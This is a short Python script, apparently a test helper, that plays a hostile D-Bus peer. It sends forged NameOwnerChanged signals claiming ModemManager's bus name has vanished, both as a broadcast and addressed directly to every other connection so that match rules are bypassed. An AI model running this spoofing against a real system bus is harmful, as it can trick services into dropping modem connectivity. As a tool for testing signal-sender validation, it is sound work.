#!/usr/bin/env python3
"""Plays a hostile peer on a bus: sends NameOwnerChanged for ModemManager's name, claiming it
vanished, once broadcast and once addressed to every other connection on the bus (a signal
addressed to a connection reaches it whatever its match rules say).

usage: fake_name_owner_changed.py BUS_ADDRESS
"""
import sys

import dbus
import dbus.lowlevel

bus = dbus.bus.BusConnection(sys.argv[1])
me = bus.get_unique_name()
driver = dbus.Interface(bus.get_object("org.freedesktop.DBus", "/org/freedesktop/DBus"), "org.freedesktop.DBus")
owner = driver.GetNameOwner("org.freedesktop.ModemManager1")
targets = [None] + [name for name in driver.ListNames() if name.startswith(":") and name not in (me, owner)]
for target in targets:
    message = dbus.lowlevel.SignalMessage("/org/freedesktop/DBus", "org.freedesktop.DBus", "NameOwnerChanged")
    message.append("org.freedesktop.ModemManager1", str(owner), "", signature="sss")
    if target:
        message.set_destination(target)
    bus.send_message(message)
bus.flush()
print(len(targets))
